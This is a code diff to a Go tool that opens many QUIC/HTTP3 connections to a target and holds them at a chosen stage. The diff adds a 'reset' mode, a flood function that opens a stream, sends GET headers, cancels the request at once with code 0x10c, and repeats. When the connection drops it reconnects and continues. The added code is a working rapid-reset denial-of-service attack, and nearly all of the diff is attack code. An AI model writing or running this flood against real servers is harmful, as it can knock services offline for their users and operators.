@@ -27,7 +27,7 @@ func (d deaf) ReadFrom(to []byte) (int, net.Addr, error) {
 	}
 }
 
-// Opens connections that stop somewhere, and holds them.
+// Opens connections that stop somewhere, and holds them; or floods with resets.
 func holdCrowd(count int, stop, target string) {
 	to, err := url.Parse(target)
 	if err != nil {
@@ -81,6 +81,10 @@ func member(stop string, to *url.URL, address *net.UDPAddr) error {
 	if _, err = control.Write([]byte{0, 4, 0}); err != nil || stop == "request" {
 		return err
 	}
+	if stop == "reset" {
+		go flood(connection, to, address)
+		return nil
+	}
 	stream, err := connection.OpenStream()
 	if err != nil {
 		return err
@@ -95,12 +99,31 @@ func member(stop string, to *url.URL, address *net.UDPAddr) error {
 	case "response":
 		head = headers(to, "GET", "")
 	default:
-		return fmt.Errorf("-stop %s: it is none of handshake, request, head, body, response", stop)
+		return fmt.Errorf("-stop %s: it is none of handshake, request, head, body, response, reset", stop)
 	}
 	if _, err = stream.Write(head); err == nil && stop == "response" {
 		err = stream.Close()
 	}
 	return err
+}
+
+// Asks, and resets the request at once, as long as the connection lasts; then begins again on another one.
+func flood(connection *quic.Conn, to *url.URL, address *net.UDPAddr) {
+	head := headers(to, "GET", "")
+	for {
+		stream, err := connection.OpenStreamSync(connection.Context())
+		if err != nil {
+			break
+		}
+		if _, err = stream.Write(head); err != nil {
+			break
+		}
+		stream.CancelWrite(0x10c)
+		stream.CancelRead(0x10c)
+	}
+	for member("reset", to, address) != nil {
+		time.Sleep(100 * time.Millisecond)
+	}
 }
 
 // A HEADERS frame.
